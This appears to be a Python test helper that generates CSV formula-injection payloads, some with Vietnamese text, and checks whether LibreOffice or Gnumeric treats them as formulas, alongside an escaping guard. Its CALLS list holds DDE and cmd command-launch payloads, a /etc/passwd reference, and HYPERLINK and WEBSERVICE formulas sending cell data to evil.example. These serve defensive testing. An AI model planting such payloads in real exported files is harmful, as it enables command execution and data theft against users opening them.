"""Texts that spreadsheet programs may take for formulas, and whether they did.

payloads(n) makes n of them, the same ones each time: every start, after blanks, quotes and
hidden characters, behind separators, with every call that is known to do harm, long ones,
Vietnamese around them. converted() opens files in headless LibreOffice, gnumeric() in
Gnumeric; formulas_in() looks into what they made of them.
"""
import gzip
import os
import random
import re
import shutil
import subprocess
import unicodedata
import xml.etree.ElementTree as ET
import zipfile

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠", "﹦", "﹢", "−", "=+",
          "=-", "+@", "-@", "@@", "=="]
BEFORE = ["", " ", "   ", "\u00a0", "\u3000", "\u2003", "\ufeff", "\u200b", "\u2060", "\u00ad",
          "\u202e", "\"", "\"\"", "'", "''", "'\"", "“", "\t", "\r\n", "\v", "a;", "a; ", "a\t",
          "a,", "\",", "\";", "\";\"", "một\n", "một\r\n", "HTX Bình Lư;", "HTX Bình Lư ", "(",
          ";", "\ufeff\"", " '", "\u200b '"]
CALLS = ["1+1", "1", "SUM(1;2)", "SUM(1,2)", "A1", "$A$1&\"x\"", "cmd|' /C calc'!A0",
         "cmd|'/c notepad'!'A1'", "1+1+cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")",
         "DDE(\"soffice\";\"/etc/passwd\";\"A1\")", "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
         "rundll32|'URL.dll,OpenURL calc.exe'!A", "HYPERLINK(\"http://evil.example/?x=\"&A1,\"Xem\")",
         "HYPERLINK(\"http://evil.example\";\"Bấm vào đây\")",
         "WEBSERVICE(\"http://evil.example/?\"&A1)", "IMPORTXML(CONCAT(\"http://e.vn\",A2),\"//a\")",
         "IMPORTDATA(\"http://e.vn\")", "IMAGE(\"http://e.vn/a.png\")", "INDIRECT(\"A1\")",
         "'file:///etc/passwd'#$passwd.A1", "EXEC(\"calc\")", "CALL(\"Shell32\",\"ShellExecuteA\")",
         "REGISTER.ID(\"kernel32\",\"GetTickCount\")", "IF(1;\"có\";\"không\")", "{1;2}", "1E5",
         "1*9999999999", "2+3-4", "TRUE", "NOW()", "10%", "(1)", "a.b", "HTX", "x\"y\"z", "|", "!"]
AFTER = ["", "", "", " HTX Nông nghiệp", ";", "\"", "\";=1+1", ",=1+1", "\t=1+1", "\n=1+1;x", "'",
         " đồng", ";=cmd|' /C calc'!A0;", "\";\"=1+1\";\""]
WHOLE = ["=", "+", "-", "@", "'=1+1", "''=1+1", "'", "_x003D_1+1", "=_x0041_", "{{htx.total}}",
         "={{#thuyet_minh}}", "<f>1+1</f>", "]]>=1+1", "&#61;1+1", "&=1+1", "<is><t>=1</t></is>",
         "=1+1\u0301", "='=1+1", "=\"a\"\"b\"", "%3D1+1", "\\=1+1", "=" + "1+" * 900 + "1",
         "@" + "SUM(" * 300, "=REPT(\"A\"," + "9" * 500 + ")", "-" * 1000, "+" + "ệ" * 700]


def payloads(n=500, seed=20250616):
    rng = random.Random(seed)
    found = dict.fromkeys(WHOLE)
    # every start, every prefix and every call at least once, then any of them together
    lists = [(s, "", rng.choice(CALLS)) for s in STARTS] + [
        ("=", b, rng.choice(CALLS)) for b in BEFORE] + [("=", "", c) for c in CALLS]
    for start, before, call in lists:
        found[before + start + call + rng.choice(AFTER)] = None
    while len(found) < n:
        found[rng.choice(BEFORE) + rng.choice(STARTS) + rng.choice(CALLS)
              + rng.choice(AFTER)] = None
    return list(found)[:n]


def hidden(text):
    """Has characters that no name may have."""
    return any(unicodedata.category(c) in ("Cc", "Cf", "Co", "Cs") for c in text)


def _begins(text, i):
    """At i, a place where a field could begin for some reader, a formula does."""
    if i > 0 and text[i - 1] not in ";\t\r\n":
        return False
    for c in text[i:]:
        if c in "\t\r\n":
            return i == 0
        if c not in "\"'" and unicodedata.category(c) not in ("Zs", "Zl", "Zp", "Cc", "Cf"):
            return c in "=+-@＝＋－＠﹦﹢﹣﹫−"
    return False


def guarded(text):
    """What a text looks like in a CSV: the rule of aggregator/book/csv.h once more."""
    return "".join("'" + c if _begins(text, i) else c for i, c in enumerate(text))


def plain(text):
    """And back: what a reader of a CSV does to have the text as it was."""
    return "".join(c for i, c in enumerate(text) if c != "'" or not _begins(text, i))


# ---- what programs make of a file -------------------------------------------------------

def office():
    return shutil.which("soffice")


def converted(site, files, folder, separator=None):
    """The files as .xlsx, by LibreOffice; separator: of CSV files, its code."""
    out = os.path.join(site.dir, folder)
    argv = [office(), "-env:UserInstallation=file://" + os.path.join(site.dir, "lo"), "--headless",
            "--convert-to", "xlsx", "--outdir", out]
    if separator:
        argv.append("--infilter=Text - txt - csv (StarCalc):%d,34,76" % separator)
    subprocess.run(argv + files, capture_output=True, timeout=120, check=False)
    return [os.path.join(out, os.path.splitext(os.path.basename(f))[0] + ".xlsx") for f in files]


def formulas_in(path):
    """Formulas of a workbook's cells, links and external parts, from its XML."""
    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if re.search(r"externalLink|vbaProject|connections\.xml|queryTable", name):
                found.append(name)
            if name.endswith(".rels") and b'TargetMode="External"' in z.read(name):
                found.append(name + ": external target")
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                for e in ET.fromstring(z.read(name)).iter():
                    if e.tag.endswith("}f"):
                        found.append("%s: %s" % (name, e.text))
    return found


def texts_of(path):
    """Strings and numbers of all cells, by openpyxl."""
    import openpyxl
    texts, numbers = set(), 0
    for ws in openpyxl.load_workbook(path):
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):  # openpyxl leaves "_x000D_", perhaps "_x005F_"
                    texts.add(re.sub(r"_x(00[01][0-9A-Fa-f])_", lambda m: chr(int(m[1], 16)),
                                     c.value.replace("_x005F_", "_")))
                elif c.value is not None:
                    numbers += 1
    return texts, numbers


def gnumeric(site, path):
    """Cells that Gnumeric takes for formulas; None where it is not installed."""
    if not shutil.which("ssconvert"):
        return None
    out = os.path.join(site.dir, "gnumeric.xml")
    kind = ["-I", "Gnumeric_stf:stf_csvtab"] if path.endswith(".csv") else []
    subprocess.run(["ssconvert", *kind, "-T", "Gnumeric_XmlIO:sax:0", path, out],
                   capture_output=True, timeout=120, check=False)
    with open(out, "rb") as f:
        data = f.read()
    data = gzip.decompress(data) if data[:2] == b"\x1f\x8b" else data
    cells = [c for c in ET.fromstring(data).iter() if c.tag.endswith("}Cell")]
    assert cells, path
    return [c.text for c in cells if "ValueType" not in c.attrib]
